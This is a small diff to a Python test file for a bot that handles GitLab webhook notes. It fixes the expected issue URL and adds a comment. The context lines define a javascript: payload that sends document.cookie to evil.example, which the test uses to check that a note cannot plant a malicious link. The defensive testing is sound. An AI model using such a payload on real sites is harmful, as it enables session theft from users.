@@ -17,7 +17,7 @@ from tests.test_logins import TOKEN, with_token
 from tests.worker.test_readback import PROJECT, labeled, note
 
 EVIL = "javascript:fetch('https://evil.example/?c='+document.cookie)"
-FORGE_URL = f"https://gitlab.example/{PROJECT}/issues/17"  # what the FakeForge's API gives
+FORGE_URL = f"https://gitlab.example/{PROJECT}/-/issues/17"  # what the FakeForge's API gives
 
 
 @pytest.fixture
@@ -60,6 +60,7 @@ async def test_a_gitlab_note_cannot_plant_one_either(bot: Harness) -> None:
     await bot.send_gitlab("Note Hook", payload)
     await bot.dispatch_all()
     [task] = await bot.tasks()
+    # formed under the project's address as the FakeForge's API gives it
     assert task.request.issue.web_url == FORGE_URL
 
 
